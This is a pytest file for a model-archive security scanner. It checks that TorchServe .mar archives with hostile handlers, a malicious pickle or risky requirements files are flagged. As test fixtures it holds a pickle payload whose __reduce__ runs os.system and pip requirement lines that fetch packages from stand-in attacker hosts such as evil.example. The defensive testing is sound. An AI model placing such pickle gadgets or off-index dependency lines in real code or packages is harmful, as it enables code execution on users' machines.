"""TorchServe `.mar` archives: the handler the manifest names, and the members beside it.

Archives are written in torch-model-archiver's layout (`_torchserve.py`); the serialized
models are written by torch.save. Nothing is extracted or imported.
"""

from __future__ import annotations

import pickle
from pathlib import Path

import pytest

from modelaudit.findings import IssueSeverity
from tests.containers._torchserve import (
    HARMLESS_HANDLER,
    HOSTILE_HANDLER,
    MODEL_PY,
    ROUTINE_HANDLER,
    state_dict_bytes,
    write_folder,
    write_mar,
    write_tgz,
)
from tests.dataformats._dataformats_util import assert_clean, scan

RULE = "MA2016"


def _handler_findings(path: Path) -> list[tuple[IssueSeverity, str]]:
    return [(i.severity, i.message) for i in scan(path).issues if i.rule == RULE]


def test_builtin_handler_eager_model_is_quiet(tmp_path: Path) -> None:
    files: dict[str, bytes | str] = {"model.pt": state_dict_bytes(), "model.py": MODEL_PY}
    result = scan(write_mar(tmp_path / "net.mar", "image_classifier", files))
    assert_clean(result)
    assert result.metadata["torchserve"]["handler"] == "image_classifier"


def test_custom_handler_in_the_archive_is_critical(tmp_path: Path) -> None:
    files: dict[str, bytes | str] = {
        "model.pt": state_dict_bytes(),
        "model.py": MODEL_PY,
        "handler.py": HOSTILE_HANDLER,
    }
    [(severity, message)] = _handler_findings(write_mar(tmp_path / "net.mar", "handler.py", files))
    assert severity is IssueSeverity.CRITICAL
    assert "handler.py" in message and "initialize()" in message and "os.system" in message


def test_custom_handler_doing_a_handlers_work_is_a_warning(tmp_path: Path) -> None:
    """Most archives ship their own handler: unvetted code that runs at load, not an attack."""
    for name, source in (("my_handler", HARMLESS_HANDLER), ("handler", ROUTINE_HANDLER)):
        files: dict[str, bytes | str] = {"model.pt": state_dict_bytes(), f"{name}.py": source}
        path = write_mar(tmp_path / f"{name}.mar", f"{name}:entry", files, model_file=None)
        [(severity, message)] = _handler_findings(path)
        assert severity is IssueSeverity.WARNING and "entry()" in message, message


def test_harmless_module_shadowing_a_builtin_handler_is_critical(tmp_path: Path) -> None:
    files: dict[str, bytes | str] = {
        "model.pt": state_dict_bytes(),
        "image_classifier.py": HARMLESS_HANDLER,
    }
    path = write_mar(tmp_path / "net.mar", "image_classifier", files, model_file=None)
    [(severity, message)] = _handler_findings(path)
    assert severity is IssueSeverity.CRITICAL and "shadowing" in message


def test_shipped_module_shadowing_a_builtin_handler_is_critical(tmp_path: Path) -> None:
    files: dict[str, bytes | str] = {
        "model.pt": state_dict_bytes(),
        "image_classifier.py": HOSTILE_HANDLER,
    }
    path = write_mar(tmp_path / "net.mar", "image_classifier", files, model_file=None)
    [(severity, message)] = _handler_findings(path)
    assert severity is IssueSeverity.CRITICAL and "shadowing" in message


def test_handler_neither_shipped_nor_builtin_warns(tmp_path: Path) -> None:
    path = write_mar(tmp_path / "net.mar", "site_handlers", {"model.pt": state_dict_bytes()})
    [(severity, message)] = _handler_findings(path)
    assert severity is IssueSeverity.WARNING and "site_handlers" in message


def test_serialized_model_is_scanned_as_a_member(tmp_path: Path) -> None:
    class Payload:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            import os

            return (os.system, ("id",))

    files: dict[str, bytes | str] = {"model.pt": pickle.dumps(Payload()), "model.py": MODEL_PY}
    result = scan(write_mar(tmp_path / "net.mar", "image_classifier", files))
    critical = [i for i in result.issues if i.severity is IssueSeverity.CRITICAL]
    assert critical and all("model.pt" in (i.location or "") for i in critical)


def test_extracted_archive_folder_is_judged_from_its_manifest(tmp_path: Path) -> None:
    """torch-model-archiver's `no-archive` format: the same layout in a folder."""
    files: dict[str, bytes | str] = {"model.pt": state_dict_bytes(), "handler.py": HOSTILE_HANDLER}
    root = write_folder(tmp_path / "net", "handler.py", files)
    [(severity, message)] = _handler_findings(root / "MAR-INF" / "MANIFEST.json")
    assert severity is IssueSeverity.CRITICAL and "os.system" in message
    quiet = write_folder(tmp_path / "quiet", "image_classifier", {"model.pt": state_dict_bytes()})
    assert_clean(scan(quiet / "MAR-INF" / "MANIFEST.json"))


@pytest.mark.parametrize("prefix", ["", "net/"])
def test_tgz_archive_is_judged_from_its_manifest(tmp_path: Path, prefix: str) -> None:
    """torch-model-archiver's `tgz` format, walked as a stream: the manifest and Python files
    are kept while the walk passes them and judged at its end."""
    files: dict[str, bytes | str] = {"model.pt": state_dict_bytes(), "handler.py": HOSTILE_HANDLER}
    path = write_tgz(tmp_path / "net.tar.gz", "handler.py", files, prefix)
    [(severity, message)] = _handler_findings(path)
    assert severity is IssueSeverity.CRITICAL and "os.system" in message
    quiet = write_tgz(tmp_path / "q.tar.gz", "image_classifier", {"model.pt": b"x"}, prefix)
    assert not _handler_findings(quiet)


REQUIREMENTS_RULE = "MA2017"
#: What pip fetches off the default index, one line of each kind, among pinned packages.
HOSTILE_REQUIREMENTS = """torch==2.4.0
--extra-index-url https://pypi.evil.example/simple
--trusted-host pypi.evil.example
helper @ https://evil.example/helper-1.0.tar.gz
git+https://evil.example/payload.git#egg=payload
-e git+https://evil.example/editable.git#egg=editable
numpy>=1.26
"""


def _requirement_findings(path: Path) -> list[tuple[IssueSeverity, str]]:
    return [(i.severity, i.message) for i in scan(path).issues if i.rule == REQUIREMENTS_RULE]


def test_requirements_file_fetching_off_the_index_warns(tmp_path: Path) -> None:
    """`model.requirementsFile` is what TorchServe pip-installs with install_py_dep_per_model:
    each line that leaves the default index is a WARNING, as in an MLflow model's
    environment, whatever the file is called."""
    files: dict[str, bytes | str] = {
        "model.pt": state_dict_bytes(),
        "deps/serving.txt": HOSTILE_REQUIREMENTS,
    }
    path = write_mar(
        tmp_path / "net.mar",
        "image_classifier",
        files,
        model_file=None,
        requirements="deps/serving.txt",
    )
    found = _requirement_findings(path)
    assert {s for s, _ in found} == {IssueSeverity.WARNING}
    lines = "\n".join(m for _, m in found)
    for needle in ("--extra-index-url", "--trusted-host", "helper @", "payload.git", "-e git+"):
        assert needle in lines, lines
    assert "torch==" not in lines and "numpy" not in lines
    assert scan(path).metadata["torchserve"]["requirementsFile"] == "deps/serving.txt"


def test_requirements_file_of_index_packages_is_quiet(tmp_path: Path) -> None:
    files: dict[str, bytes | str] = {
        "model.pt": state_dict_bytes(),
        "requirements.txt": "torch==2.4.0\ntransformers>=4.40\n",
    }
    path = write_mar(
        tmp_path / "net.mar",
        "image_classifier",
        files,
        model_file=None,
        requirements="requirements.txt",
    )
    assert_clean(scan(path))


def test_requirements_file_outside_the_archive_warns(tmp_path: Path) -> None:
    """TorchServe opens `<model dir>/<requirementsFile>`: a `..` leaves the archive for a file
    on the server; a leading `/` does not (Java joins the two)."""
    files: dict[str, bytes | str] = {"model.pt": state_dict_bytes(), "r.txt": "torch\n"}
    outside = write_mar(
        tmp_path / "out.mar",
        "image_classifier",
        files,
        model_file=None,
        requirements="../../tmp/r.txt",
    )
    [(severity, message)] = _requirement_findings(outside)
    assert severity is IssueSeverity.WARNING and "outside the archive" in message
    rooted = write_mar(
        tmp_path / "root.mar", "image_classifier", files, model_file=None, requirements="/r.txt"
    )
    assert not _requirement_findings(rooted)


def test_requirements_file_is_judged_in_tgz_and_folder_archives(tmp_path: Path) -> None:
    files: dict[str, bytes | str] = {
        "model.pt": state_dict_bytes(),
        "requirements.txt": HOSTILE_REQUIREMENTS,
    }
    tgz = write_tgz(
        tmp_path / "net.tar.gz", "image_classifier", files, "net/", requirements="requirements.txt"
    )
    assert len(_requirement_findings(tgz)) == 5
    root = write_folder(
        tmp_path / "net", "image_classifier", files, requirements="requirements.txt"
    )
    assert len(_requirement_findings(root / "MAR-INF" / "MANIFEST.json")) == 5
